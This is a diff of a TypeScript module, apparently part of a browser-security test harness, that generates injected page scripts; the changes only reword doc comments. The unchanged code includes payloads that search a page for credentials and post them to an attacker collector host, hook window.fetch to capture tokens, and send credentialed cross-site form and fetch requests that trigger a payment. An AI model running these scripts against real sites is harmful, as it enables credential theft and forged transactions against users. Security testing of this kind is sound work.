@@ -1,15 +1,15 @@
-/** Scripts that run in a page: what an attacker injects, and what a stranger's page does. Pure: text from arguments. */
+/** Scripts that run in a page: injected by an attacker, or in a page of another origin. Pure: text from arguments. */
 import { COLLECTOR, urlOf } from './hosts.ts';
 
 const json = (value: unknown) => JSON.stringify(value);
 
-/** Sends home as `text/plain`, which needs nobody's leave. */
+/** Sends data to the attacker as `text/plain`, which needs no preflight. */
 function sendHome(marker: string, port: number, found: string): string {
   const url = json(urlOf(COLLECTOR, port, '/collect'));
   return `fetch(${url}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ marker: ${json(marker)}, found: ${found} }) })`;
 }
 
-/** Looks through all that a script can reach, and sends home every string that might be a credential. */
+/** Searches everything that a script can reach, and sends every possible credential to the attacker. */
 export function readEverything(marker: string, port: number): string {
   return `(() => {
     const found = [];
@@ -27,7 +27,7 @@ export function readEverything(marker: string, port: number): string {
   })()`;
 }
 
-/** Waits for the page's own next call and reads the credential that it carries. */
+/** Waits for the page's own next call and reads its credential. */
 export function listenIn(marker: string, port: number): string {
   return `(() => {
     const real = window.fetch.bind(window);
@@ -42,7 +42,7 @@ export function listenIn(marker: string, port: number): string {
   })()`;
 }
 
-/** Uses the page as its user would: whatever the page can do, this can, and no credential needs to be seen. */
+/** Uses the page as its user would: it can do whatever the page can, without seeing a credential. */
 export function useThePage(to: string): string {
   return `(() => {
     const form = document.querySelector('#pay');
@@ -51,7 +51,7 @@ export function useThePage(to: string): string {
   })()`;
 }
 
-/** Posts a form and goes where it leads, as a click on a button would. */
+/** Posts a form and navigates to its target, as a click on a button would. */
 export function postForm(url: string, to: string): string {
   return `(() => {
     const form = document.createElement('form');
@@ -70,12 +70,12 @@ export function postForm(url: string, to: string): string {
 
 const settled = `.then(() => 'answered', () => 'failed')`;
 
-/** The same behind the page, in a form that needs nobody's leave. */
+/** Posts a form with fetch, which needs no preflight. */
 export function fetchForm(url: string, to: string): string {
   return `fetch(${json(url)}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ to: ${json(to)}, amount: '5' }) })${settled}`;
 }
 
-/** JSON, which the browser asks leave for first. */
+/** Posts JSON, for which the browser sends a preflight first. */
 export function fetchJson(url: string, to: string): string {
   return `fetch(${json(url)}, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ to: ${json(to)}, amount: 5 }) })${settled}`;
 }
@@ -88,7 +88,7 @@ export function followLink(url: string): string {
   return `(() => { const link = document.createElement('a'); link.href = ${json(url)}; document.body.append(link); link.click(); })()`;
 }
 
-/** @returns in the page: the username that `GET /me` answered with, or what went wrong */
+/** @returns in the page: the username in the answer to `GET /me`, or a description of the failure */
 export function readMe(url: string, bearer: string | null): string {
   const options = bearer === null ? { credentials: 'include' } : { headers: { authorization: `Bearer ${bearer}` } };
   return `fetch(${json(url)}, ${json(options)}).then(async reply => (await reply.json()).username ?? 'status ' + reply.status, () => 'failed')`;
